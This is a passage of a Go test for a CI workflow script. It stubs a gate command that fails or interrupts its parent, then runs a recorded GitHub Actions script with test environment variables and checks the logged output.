	w.script("bin/nsgate", "exit 3")
	if log, ok := w.run(""); ok || strings.Contains(log, "error") {
		t.Errorf("success is %v: %s", ok, log)
	}

	w = newWorkflow(t)
	w.script("bin/nsgate", `trap 'echo stopped; exit 143' TERM; sleep 0.2; kill -INT $PPID
			for i in 1 2 3 4 5 6 7 8 9; do sleep 0.5; done`)
	if log, ok := w.run(""); ok || !strings.Contains(log, "stopped") {
		t.Errorf("success is %v: %s", ok, log)
	}

	w = newWorkflow(t)
	w.shell("echo new >checkout/" + newFile)
	cmd := exec.Command("bash", mustAbs(t, "../../.github/recorded"))
	cmd.Dir = w.repo
	cmd.Env = append(os.Environ(), "TOKEN="+w.token, "PUSH=true", "PATCH=", "BASELINE=", "WORKING_DIRECTORY=",
		"GITHUB_STEP_SUMMARY="+w.dir+"/summary")
	for name, value := range w.set {
		cmd.Env = append(cmd.Env, name+"="+value)
	}
	out, err := cmd.CombinedOutput()
	w.kept(string(out), newFile)
	if err != nil {
		t.Error(err)
	}
}
